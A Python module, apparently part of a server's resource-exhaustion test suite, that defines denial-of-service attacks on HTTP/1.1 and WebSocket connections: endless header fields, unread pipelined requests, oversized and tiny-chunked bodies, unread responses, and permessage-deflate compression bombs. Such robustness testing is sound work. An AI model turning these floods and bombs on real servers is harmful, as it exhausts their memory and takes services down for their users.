"""Attacks on HTTP/1.1 connections, and on WebSockets over it; see ``attacks``."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable, Iterator

from wire_clients import frames
from wire_clients.base import Wire

Attack = Callable[[Wire, int], Iterator[None]]


def _pour(wire: Wire, data: bytes, total: int) -> Iterator[None]:
    """As much of it as the server takes, up to ``total`` bytes; the wire's own queue stays small."""
    sent = 0
    for _ in range(total // len(data)):
        for _ in range(20):
            if len(wire.unsent) <= 1 << 18 or wire.eof:
                break
            wire.poll(0.005, read=False)
            yield
        if wire.eof or len(wire.unsent) > 1 << 18:
            return
        wire.send(data)
        sent += len(data)
        yield


def endless_heads(wire: Wire, amount: int) -> Iterator[None]:
    wire.send(b"GET / HTTP/1.1\r\nhost: a\r\n")
    return _pour(wire, b"x-field: %b\r\n" % (b"y" * 400), 50 * amount)


def pipelines(wire: Wire, amount: int) -> Iterator[None]:
    """Requests without end, and no answer is read."""
    return _pour(wire, b"GET / HTTP/1.1\r\nhost: a\r\n\r\n" * 100, 50 * amount)


def pipelines_behind_one_that_runs(wire: Wire, amount: int) -> Iterator[None]:
    wire.send(b"GET /hold HTTP/1.1\r\nhost: a\r\n\r\n")
    return _pour(wire, b"GET / HTTP/1.1\r\nhost: a\r\n\r\n" * 100, 50 * amount)


def unread_bodies(wire: Wire, amount: int) -> Iterator[None]:
    wire.send(b"POST /hold HTTP/1.1\r\nhost: a\r\ncontent-length: 100000000\r\n\r\n")
    return _pour(wire, bytes(65_536), 500 * amount)


def tiny_chunks(wire: Wire, amount: int) -> Iterator[None]:
    wire.send(b"POST /hold HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n")
    return _pour(wire, b"1\r\nx\r\n" * 1000, 100 * amount)


def unread_answers(wire: Wire, amount: int) -> Iterator[None]:
    wire.send(b"GET /large HTTP/1.1\r\nhost: a\r\n\r\n" * 10)
    for _ in range(20):
        wire.poll(0.005, read=False)
        yield


def websocket_bombs(wire: Wire, amount: int) -> Iterator[None]:
    """Messages of 15 MiB in 15 KiB each, for an application that does not read."""
    fields = (
        b"connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n"
        b"sec-websocket-extensions: permessage-deflate\r\nsec-websocket-key: " + b64encode(bytes(16)) + b"\r\n"
    )
    wire.send(b"GET /hold HTTP/1.1\r\nhost: a\r\n" + fields + b"\r\n")
    bomb = frames.frame(frames.BINARY, frames.Deflater().compress(bytes(15 << 20)), rsv=4)
    return _pour(wire, bomb, 50 * amount)


BORNE: tuple[Attack, ...] = (
    endless_heads,
    pipelines,
    pipelines_behind_one_that_runs,
    unread_bodies,
    tiny_chunks,
    unread_answers,
    websocket_bombs,
)
